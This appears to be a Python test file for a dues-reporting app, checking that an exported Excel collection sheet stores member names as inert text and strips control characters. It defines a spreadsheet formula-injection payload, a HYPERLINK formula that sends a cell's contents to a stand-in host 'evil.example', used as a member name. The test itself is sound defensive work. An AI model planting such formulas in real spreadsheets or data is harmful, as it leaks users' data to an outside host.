"""The dues sheets hold names as text: no formula, no refused character."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from flowmember.core.months import index
from flowmember.extensions import db

from .conftest import NOV, assess, set_base

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"x")'


def test_a_name_starting_with_a_formula_is_text_in_the_collection_sheet(api, books):
    books["member"].name = HYPERLINK
    books["a"].name = "Branch\x07 A"
    db.session.commit()
    set_base(books["member"], base="4000.00")
    assess(*range(index(2026, 10), NOV + 1))
    response = api.as_(books["clerk"]).get(
        f"/dues/reports/collection.xlsx?org_id={books['a'].id}&month=2026-11"
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    org, name, amount = sheet.cell(3, 1), sheet.cell(3, 2), sheet.cell(3, 3)
    assert (name.data_type, name.value) == ("s", "'" + HYPERLINK)
    assert org.value == "Branch A"
    assert amount.value == 40.0 and amount.data_type == "n"
    annual = api.as_(books["admin"]).get("/dues/reports/annual.xlsx?year=2026")
    assert annual.status_code == 200
